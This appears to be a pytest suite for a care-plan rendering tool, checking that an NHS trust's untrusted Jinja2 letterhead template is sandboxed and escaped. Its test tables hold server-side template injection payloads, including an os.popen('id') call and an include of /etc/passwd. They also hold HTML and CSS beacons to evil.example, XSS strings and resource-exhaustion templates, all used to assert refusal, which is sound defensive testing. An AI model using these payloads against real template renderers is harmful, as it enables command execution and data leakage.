"""An organisation's letterhead template (templates/plan.html.j2): untrusted, sandboxed."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import EXAMPLES, invoke

LETTERHEAD = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{{ copy.title }}</title>
<style>{{ css }}</style></head>
<body><header><img alt="Westbridge NHS Trust" src="data:image/png;base64,iVBORw0KGgo=">
<p>Westbridge NHS Trust, Community Mental Health</p></header>
<h1>{{ copy.title }}</h1>
{% for section in copy.sections %}<h2>{{ section.heading }}</h2>
{% for label, value in section.rows %}<p>{{ label }}: {{ value }}</p>{% endfor %}
{% for item in section.items %}<p>{{ item }}</p>{% endfor %}{% endfor %}
</body></html>
"""


@pytest.fixture
def repo(git_repo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    shutil.copy(EXAMPLES / "CP-000102.yaml", git_repo / "plans")
    (git_repo / "templates").mkdir()
    monkeypatch.chdir(git_repo)
    return git_repo


def _template(repo: Path, text: str) -> None:
    (repo / "templates" / "plan.html.j2").write_text(text, encoding="utf-8")


def test_the_letterhead_is_used_when_present(runner: CliRunner, repo: Path) -> None:
    _template(repo, LETTERHEAD)
    code, out, err = invoke(runner, "render", "CP-000102")
    assert (code, err) == (0, "")
    assert "Westbridge NHS Trust, Community Mental Health" in out
    assert "<h2>If things get difficult</h2>" in out and ":root {" in out


def test_markdown_has_no_letterhead(runner: CliRunner, repo: Path) -> None:
    _template(repo, "{{ ''.__class__ }}")
    code, out, _ = invoke(runner, "render", "CP-000102", "--format", "md")
    assert code == 0 and out.startswith("# Care plan for")


def test_markup_in_values_is_escaped(runner: CliRunner, repo: Path) -> None:
    _template(repo, LETTERHEAD)
    plan = repo / "plans" / "CP-000102.yaml"
    text = plan.read_text(encoding="utf-8")
    name = text.split("\n  name: ", 1)[1].split("\n", 1)[0]
    plan.write_text(text.replace(name, '"<script>alert(1)</script> & <b onclick=x>"', 1))
    for args in (["render", "CP-000102"], ["render", str(plan)]):
        code, out, _ = invoke(runner, *args)
        assert code == 0
        assert "<script>" not in out and "<b onclick" not in out
        assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b onclick=x&gt;" in out
    (repo / "templates" / "plan.html.j2").unlink()
    code, out, _ = invoke(runner, "render", "CP-000102")  # careplan's own template
    assert code == 0 and "<script>" not in out and "&lt;script&gt;alert(1)" in out


ESCAPES = {
    "class": "{{ ''.__class__ }}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__ }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "copy-class": "{{ copy.__class__.__init__.__globals__ }}",
    "format": "{{ '{0.__class__}'.format(copy) }}",
    "context": "{{ self._TemplateReference__context }}",
    "include": "{% include '/etc/passwd' %}",
    "extends": "{% extends 'base.html' %}",
    "import": "{% import 'macros.html' as m %}",
    "autoescape-off": "{% autoescape false %}{{ copy.title }}{% endautoescape %}",
    "safe": "{{ copy.title|safe }}",
    "safe-block": "{% filter safe %}{{ copy.title }}{% endfilter %}",
    "range": "{% for i in range(10**9) %}{% endfor %}",
    "syntax": "{% for %}",
    "remote-img": '<img src="https://evil.example/p.png?{{ copy.title|urlencode }}">',
    "remote-protocol-relative": '<img src="//evil.example/p.png">',
    "srcset": '<img src="data:," srcset="https://evil.example/p.png 2x">',
    "link": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "script": "<script>fetch('https://evil.example')</script>",
    "css-url": "<style>body { background: url(https://evil.example/b.png) }</style>",
    "css-import": "<style>@import 'https://evil.example/s.css';</style>",
    "style-attribute": "<p style=\"background:url('//evil.example/b')\">x</p>",
    "iframe": '<iframe src="data:text/html,x"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><button>Send</button></form>',
}


@pytest.mark.parametrize("template", ESCAPES.values(), ids=ESCAPES.keys())
def test_a_template_cannot_leave_its_sandbox_or_reach_the_network(
    runner: CliRunner, repo: Path, template: str
) -> None:
    _template(repo, template)
    code, out, err = invoke(runner, "render", "CP-000102")
    assert (code, out) == (1, "")
    assert err.startswith("error: templates/plan.html.j2: ") and "Traceback" not in err
    assert "root:" not in err and "uid=" not in err and "<class" not in err


def test_a_symlinked_template_is_refused(runner: CliRunner, repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.j2"
    outside.write_text(LETTERHEAD)
    (repo / "templates" / "plan.html.j2").symlink_to(outside)
    code, out, err = invoke(runner, "render", "CP-000102")
    assert (code, out) == (1, "")
    assert err == "error: templates/plan.html.j2: a template that is a symbolic link is not used\n"


def test_a_symlinked_templates_folder_is_refused(
    runner: CliRunner, repo: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "plan.html.j2").write_text(LETTERHEAD)
    (repo / "templates").rmdir()
    (repo / "templates").symlink_to(outside)
    code, out, err = invoke(runner, "render", "CP-000102")
    assert (code, out) == (1, "") and "symbolic link" in err


def test_a_template_that_is_not_a_file_is_refused(runner: CliRunner, repo: Path) -> None:
    (repo / "templates" / "plan.html.j2").mkdir()
    code, _, err = invoke(runner, "render", "CP-000102")
    assert code == 1 and err.startswith("error: templates/plan.html.j2: ")


def test_an_oversized_template_is_refused(runner: CliRunner, repo: Path) -> None:
    _template(repo, "x" * (1024 * 1024 + 1))
    code, _, err = invoke(runner, "render", "CP-000102")
    assert code == 1 and "over 1024 KiB" in err


RUNAWAY = {
    "repeat": "{{ 'x' * 10**10 }}",
    "repeat-list": "{{ [1] * 10**9 }}",
    "power": "{{ 2 ** 100000000 }}",
    "divide": "{{ 1 / 0 }}",
    "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "index": "{{ copy.sections[999] }}",
}


@pytest.mark.parametrize("template", RUNAWAY.values(), ids=RUNAWAY.keys())
def test_a_runaway_or_broken_template_is_refused(
    runner: CliRunner, repo: Path, template: str
) -> None:
    _template(repo, template)
    code, out, err = invoke(runner, "render", "CP-000102")
    assert (code, out) == (1, "") and err.startswith("error: templates/plan.html.j2: ")


@pytest.mark.parametrize("bare", [False, True], ids=["page", "fragment"])
def test_a_draft_is_marked_whatever_the_letterhead(
    runner: CliRunner, repo: Path, bare: bool
) -> None:
    _template(repo, "<p>{{ copy.title }}</p>" if bare else LETTERHEAD)
    plan = repo / "plans" / "CP-000102.yaml"
    plan.write_text(plan.read_text().replace("\nstatus: active\n", "\nstatus: draft\n"))
    code, out, _ = invoke(runner, "render", "CP-000102")
    assert code == 0
    mark = '<p class="careplan-draft" role="note">DRAFT: this plan is not yet agreed'
    assert out.count(mark) == 1 and out.count("@top-center") == 1
    if bare:
        assert out.startswith("<style>") and out.index(mark) < out.index("<p>DRAFT: care plan")
    else:
        assert out.index("@top-center") < out.index("</head>") < out.index("<body>")
        assert out.index("<body>") < out.index(mark) < out.index("<header>")
